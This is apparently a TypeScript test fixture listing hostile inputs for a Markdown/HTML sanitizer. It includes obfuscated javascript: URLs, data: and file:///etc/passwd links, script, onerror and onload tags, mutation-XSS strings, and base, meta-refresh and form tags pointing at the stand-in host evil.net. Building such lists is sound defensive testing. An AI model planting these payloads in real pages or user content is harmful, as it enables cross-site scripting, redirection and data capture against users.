/** Where a link must not lead; one a line, for some hold spaces. */
const LINKS = String.raw`javascript:alert(1)
JaVaScRiPt:alert(1)
java${'\t'}script:alert(1)
java&#10;script:alert(1)
javascript&colon;alert(1)
&#106;avascript:alert(1)
&#x6A&#x61vascript:alert(1)
${'\u0001'}javascript:alert(1)
javascript%3Aalert(1)
vbscript:msgbox(1)
data:text/html,<script>alert(1)</script>
data:image/svg+xml;base64,PHN2Zz4=
file:///etc/passwd
//evil.net/x
\\evil.net\x
blob:https://evil.net/x
https://evil.net/" onmouseover="alert(1)
https://evil.net/' onmouseover='alert(1)
https://evil.net/<script>`.split('\n');
/** What an author would write who wants to run something in Maya’s browser, or to send her elsewhere. */
export const HOSTILE: string[] = [
  ...LINKS.flatMap((link) => [
    `[x](${link})`,
    `[x](<${link}>)`,
    `<${link}>`,
    `[x]\n\n[x]: ${link}`,
    `![x](${link})`,
    link,
  ]),
  ...LINKS.map((link) => `<a href="${link}">x</a>`),
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.net>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<body onload=alert(1)>',
  '<style>@import "//evil.net"</style>',
  '<p style="position:fixed">x</p>',
  '<form action=//evil.net><input name=mailbox>',
  '<math><mtext></p><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<base href=//evil.net>',
  '<meta http-equiv=refresh content=0;url=//evil.net>',
  '<<script>alert(1)//<</script>',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '[x](https://evil.net "\\" onmouseover=alert(1) ")',
  "[x](https://evil.net '\"><script>alert(1)</script>')",
  '[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: x',
  'x^[<img src=x onerror=alert(1)>]',
  '[^"onmouseover="x]\n\n[^"onmouseover="x]: [x](javascript:alert(1))',
  '`<script>alert(1)</script>`',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '# <script>alert(1)</script> {onclick=alert(1)}',
  '| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|:-|-:|\n| a | b |',
];
